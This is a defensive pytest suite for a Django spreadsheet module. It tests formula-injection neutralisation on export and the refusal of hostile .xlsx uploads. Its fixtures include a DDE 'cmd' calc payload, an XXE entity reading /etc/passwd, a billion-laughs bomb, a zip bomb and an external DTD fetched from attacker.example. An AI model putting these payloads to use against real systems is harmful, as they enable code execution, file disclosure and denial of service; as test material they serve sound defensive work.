"""Spreadsheets: formulas are neutralised on export; hostile uploads are refused on import."""

import datetime
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from defusedxml import EntitiesForbidden
from django.core.exceptions import ImproperlyConfigured
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.translation import gettext_lazy

from coalicion.core import spreadsheets
from coalicion.core.spreadsheets import (
    SpreadsheetError,
    open_workbook,
    read_rows,
    safe_cell,
    write_rows,
)

MiB = 1024 * 1024
SHEET = "xl/worksheets/sheet1.xml"
NOT_A_WORKBOOK = "The file is not an Excel workbook (.xlsx)."
DAMAGED_WORKBOOK = "The file is an Excel workbook but it cannot be read: it is damaged."
FORBIDDEN_MARKUP = "The file contains XML declarations that are not allowed (DOCTYPE/ENTITY)"

XXE_SHEET = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">
<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData>
</worksheet>"""

BILLION_LAUGHS_STRINGS = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">
<si><t>&lol9;</t></si></sst>"""


def sheet_xml(rows: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{rows}</sheetData></worksheet>"
    ).encode()


def cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


pytestmark = pytest.mark.usefixtures("english")


def workbook_bytes(rows: list[list[object]], *, title: str = "Data") -> bytes:
    workbook = openpyxl.Workbook()
    worksheet = workbook.active
    worksheet.title = title
    write_rows(worksheet=worksheet, rows=rows)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx(*, parts: dict[str, bytes] | None = None, extra: int = 0) -> io.BytesIO:
    """A real workbook's parts, some replaced or added, plus ``extra`` tiny members."""
    base = zipfile.ZipFile(io.BytesIO(workbook_bytes([["Name"], ["Ana"]])))
    members = {name: base.read(name) for name in base.namelist()} | (parts or {})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
        for number in range(extra):
            archive.writestr(f"xl/media/extra{number}.bin", b"x")
    buffer.seek(0)
    return buffer


def refusal(uploaded: io.BytesIO, **limits: int) -> str:
    with pytest.raises(SpreadsheetError) as error:
        open_workbook(uploaded=uploaded, **limits)
    return str(error.value)


def forbid_unpacking(monkeypatch) -> None:
    """From now on, opening any member of a zip fails: a refusal must come from its directory."""

    def unpack(*args, **kwargs):
        raise AssertionError("a member was unpacked")

    monkeypatch.setattr(zipfile.ZipFile, "open", unpack)


# Export: formula injection ---------------------------------------------------


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_with_a_formula_character_is_neutralised(trigger):
    assert safe_cell(f"{trigger}HYPERLINK(1)") == f"'{trigger}HYPERLINK(1)"


def test_a_cell_starting_with_equals_is_neutralised():
    assert safe_cell('=cmd|" /C calc"!A0') == '\'=cmd|" /C calc"!A0'


@pytest.mark.parametrize("text", [" =1+1", "   +1", "\n@SUM(A1)", " \t-2"])
def test_a_formula_after_leading_whitespace_is_neutralised(text):
    assert safe_cell(text) == "'" + text


def test_a_negative_number_stays_a_number():
    assert safe_cell(-5) == -5
    assert isinstance(safe_cell(-5), int)
    assert safe_cell(Decimal("-1.5")) == Decimal("-1.5")
    assert safe_cell(-0.25) == -0.25


@pytest.mark.parametrize(
    "value",
    [None, True, 0, 3.5, Decimal("10.00"), datetime.date(2025, 1, 31), "plain", "a=b", ""],
)
def test_values_that_cannot_run_as_formulas_are_unchanged(value):
    assert safe_cell(value) is value


def test_a_lazy_translation_is_written_as_text():
    assert safe_cell(gettext_lazy("Name")) == "Name"


def test_write_rows_stores_neutralised_values_as_text_cells():
    worksheet = openpyxl.Workbook().active
    write_rows(worksheet=worksheet, rows=[["=1+1", -3, " @x", "ok"]])
    formula, number, at, text = worksheet[1]
    assert (formula.value, formula.data_type) == ("'=1+1", "s")
    assert (number.value, number.data_type) == (-3, "n")
    assert (at.value, at.data_type) == ("' @x", "s")
    assert text.value == "ok"


def test_write_rows_neutralises_in_a_write_only_workbook():
    workbook = openpyxl.Workbook(write_only=True)
    write_rows(worksheet=workbook.create_sheet("Out"), rows=[["=1+1", -3]])
    buffer = io.BytesIO()
    workbook.save(buffer)
    written = openpyxl.load_workbook(buffer)["Out"]
    assert written["A1"].value == "'=1+1"
    assert written["A1"].data_type == "s"
    assert written["B1"].value == -3


def test_a_written_workbook_round_trips_through_open_workbook_and_read_rows():
    content = workbook_bytes(
        [
            [" Name ", "Amount", None, "Formula", "Date"],
            ["Ana", -5, "ignored", "=1+1", datetime.datetime(2025, 3, 1)],
            [None, None, None, None, None],
            ["Luis", Decimal("2.5"), None, "-x", None],
        ]
    )
    upload = SimpleUploadedFile("report.xlsx", content)
    workbook = open_workbook(uploaded=upload)
    try:
        rows = list(read_rows(workbook=workbook))
    finally:
        workbook.close()
    assert rows == [
        (
            2,
            {
                "Name": "Ana",
                "Amount": -5,
                "Formula": "'=1+1",
                "Date": datetime.datetime(2025, 3, 1),
            },
        ),
        (4, {"Name": "Luis", "Amount": 2.5, "Formula": "'-x", "Date": None}),
    ]


# Import: what is not an .xlsx ------------------------------------------------


def renamed_document() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
    return buffer.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b"name,amount\nAna,5\n", id="plain text"),
        pytest.param(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504, id="xls"),
        pytest.param(renamed_document(), id="zip without xl/workbook.xml"),
        pytest.param(b"", id="empty"),
    ],
)
def test_a_file_that_is_not_an_xlsx_is_refused(content):
    assert refusal(io.BytesIO(content)) == NOT_A_WORKBOOK


def test_a_file_over_max_bytes_is_refused():
    oversized = io.BytesIO(b"\0" * (10 * MiB + 1))
    assert refusal(oversized) == "The file is too large: 10.1 MB; the limit is 10.0 MB."


def test_max_bytes_can_be_lowered():
    message = refusal(xlsx(), max_bytes=1000)
    assert message.startswith("The file is too large: 0.1 MB; the limit is 0.1 MB.")


def test_too_many_entries_are_refused(monkeypatch):
    upload = xlsx(extra=1000)
    count = len(zipfile.ZipFile(upload).infolist())
    forbid_unpacking(monkeypatch)
    assert refusal(upload) == (f"The file contains too many parts: {count}; the limit is 1000.")


def test_a_zip_bomb_is_refused_before_unpacking(monkeypatch):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        zeros = b"\0" * MiB
        with archive.open(SHEET, "w") as member:
            for _ in range(50):
                member.write(zeros)
    buffer.seek(0)
    forbid_unpacking(monkeypatch)
    message = refusal(buffer)
    assert message.startswith(f"The file looks like a compression bomb: its part {SHEET} expands ")
    assert message.endswith(" times; the limit is 100 times.")


def test_a_huge_declared_uncompressed_size_is_refused_before_unpacking(monkeypatch):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr(SHEET, "<worksheet/>")
        archive.filelist[-1].file_size = 50 * 1024 * MiB
    buffer.seek(0)
    forbid_unpacking(monkeypatch)
    assert refusal(buffer) == (
        "Uncompressed, the file would take 51200.1 MB; the limit is 100.0 MB."
    )


def test_a_small_part_that_compresses_very_well_is_accepted():
    upload = xlsx(parts={"xl/media/blank.bin": b"\0" * (90 * 1024)})
    open_workbook(uploaded=upload).close()


def test_a_part_larger_than_its_declared_size_is_refused():
    upload = xlsx()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for entry in zipfile.ZipFile(upload).infolist():
            archive.writestr(entry.filename, zipfile.ZipFile(upload).read(entry))
        archive.writestr("xl/media/padding.bin", b"x" * 1000)
        archive.filelist[-1].file_size = 10
    buffer.seek(0)
    assert refusal(buffer) == "The file is damaged: its part xl/media/padding.bin cannot be read."


# Import: XML entity payloads -------------------------------------------------


def test_an_xxe_payload_is_refused():
    message = refusal(xlsx(parts={SHEET: XXE_SHEET}))
    assert message == f"{FORBIDDEN_MARKUP}, in its part {SHEET}."


def test_a_billion_laughs_payload_is_refused():
    message = refusal(xlsx(parts={"xl/sharedStrings.xml": BILLION_LAUGHS_STRINGS}))
    assert message == f"{FORBIDDEN_MARKUP}, in its part xl/sharedStrings.xml."


def test_a_payload_encoded_in_utf16_is_refused():
    payload = XXE_SHEET.decode().replace("UTF-8", "UTF-16").encode("utf-16")
    message = refusal(xlsx(parts={SHEET: payload}))
    assert message == f"{FORBIDDEN_MARKUP}, in its part {SHEET}."


def test_a_payload_in_a_part_with_any_name_is_refused():
    message = refusal(xlsx(parts={"xl/media/image1.png": XXE_SHEET}))
    assert message == f"{FORBIDDEN_MARKUP}, in its part xl/media/image1.png."


def test_a_payload_split_across_read_chunks_is_refused():
    # The scan reads 64 KiB at a time; "<!DOC" ends one chunk, "TYPE" starts the next.
    external_dtd = b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">'
    prolog = b'<?xml version="1.0"?>'
    padding = b" " * (64 * 1024 - 5 - len(prolog))
    worksheet = sheet_xml("").split(b"?>", 1)[1]
    payload = prolog + padding + external_dtd + worksheet
    assert payload[64 * 1024 - 5 : 64 * 1024 + 4] == b"<!DOCTYPE"
    message = refusal(xlsx(parts={SHEET: payload}))
    assert message == f"{FORBIDDEN_MARKUP}, in its part {SHEET}."


def test_openpyxl_refuses_entities_that_get_past_the_scan(monkeypatch):
    monkeypatch.setattr(spreadsheets, "_FORBIDDEN_MARKUP", ())
    with pytest.raises(SpreadsheetError) as error:
        open_workbook(uploaded=xlsx(parts={SHEET: XXE_SHEET}))
    assert str(error.value) == DAMAGED_WORKBOOK
    cause = error.value.__cause__
    while cause is not None and not isinstance(cause, EntitiesForbidden):
        cause = cause.__cause__
    assert isinstance(cause, EntitiesForbidden)


def test_openpyxl_without_defusedxml_is_improperly_configured(monkeypatch):
    monkeypatch.setattr(openpyxl, "DEFUSEDXML", False)
    with pytest.raises(ImproperlyConfigured, match="defusedxml"):
        open_workbook(uploaded=xlsx())


def test_a_damaged_workbook_is_refused_without_an_openpyxl_error():
    upload = xlsx(parts={"xl/workbook.xml": b"<workbook><sheets>"})
    assert refusal(upload) == DAMAGED_WORKBOOK


# Reading rows ----------------------------------------------------------------


def opened(rows: list[list[object]], *, title: str = "Data") -> openpyxl.Workbook:
    return open_workbook(uploaded=io.BytesIO(workbook_bytes(rows, title=title)))


def test_read_rows_reads_the_named_sheet_under_a_lower_header_row():
    content = workbook_bytes([["Title"], [], ["Code", " Value "], ["a", 1]], title="First")
    source = openpyxl.load_workbook(io.BytesIO(content))
    source.create_sheet("Second").append(["Other"])
    buffer = io.BytesIO()
    source.save(buffer)
    workbook = open_workbook(uploaded=buffer)
    assert list(read_rows(workbook=workbook, sheet="First", header_row=3)) == [
        (4, {"Code": "a", "Value": 1})
    ]
    assert list(read_rows(workbook=workbook, sheet="Second")) == []


def test_a_missing_sheet_is_refused_by_name():
    with pytest.raises(SpreadsheetError) as error:
        list(read_rows(workbook=opened([["Name"]]), sheet="Budget"))
    assert str(error.value) == "The workbook has no sheet named “Budget”."


def test_a_sheet_over_max_rows_is_refused_naming_sheet_and_row():
    workbook = opened([["Name"], *[[f"person {n}"] for n in range(6)]])
    with pytest.raises(SpreadsheetError) as error:
        list(read_rows(workbook=workbook, max_rows=5))
    assert str(error.value) == (
        "Sheet “Data” has more than 5 rows under its headings; row 7 is over the limit."
    )


def test_a_sheet_with_exactly_max_rows_is_read():
    workbook = opened([["Name"], *[[f"person {n}"] for n in range(5)]])
    assert len(list(read_rows(workbook=workbook, max_rows=5))) == 5


def test_a_far_away_row_is_refused_without_reading_the_gap():
    rows = f'<row r="1">{cell("A1", "Name")}</row><row r="999999999">{cell("A2", "x")}</row>'
    workbook = open_workbook(uploaded=xlsx(parts={SHEET: sheet_xml(rows)}))
    with pytest.raises(SpreadsheetError) as error:
        list(read_rows(workbook=workbook))
    assert str(error.value).endswith("row 10002 is over the limit.")


def test_a_repeated_heading_is_refused():
    with pytest.raises(SpreadsheetError) as error:
        list(read_rows(workbook=opened([["Name", " Name"]])))
    assert str(error.value) == "Sheet “Data” has the column heading “Name” twice, in row 1."


def test_a_sheet_without_headings_is_refused():
    with pytest.raises(SpreadsheetError) as error:
        list(read_rows(workbook=opened([[None, " "], ["Ana"]])))
    assert str(error.value) == "Sheet “Data” has no column headings in row 1."


def test_a_damaged_sheet_is_refused_while_reading_rows():
    rows = f'<row r="1">{cell("A1", "Name")}</row><row r="2"><c r="A2" t="n"><v>abc</v></c></row>'
    workbook = open_workbook(uploaded=xlsx(parts={SHEET: sheet_xml(rows)}))
    with pytest.raises(SpreadsheetError) as error:
        list(read_rows(workbook=workbook))
    assert str(error.value) == "Sheet “Data” cannot be read: the file is damaged."


def test_read_rows_also_reads_a_workbook_built_in_memory():
    workbook = openpyxl.Workbook()
    write_rows(worksheet=workbook.active, rows=[["Name"], ["Ana"], ["Luis"]])
    assert list(read_rows(workbook=workbook, max_rows=2)) == [
        (2, {"Name": "Ana"}),
        (3, {"Name": "Luis"}),
    ]
    assert workbook.active.max_row == 3
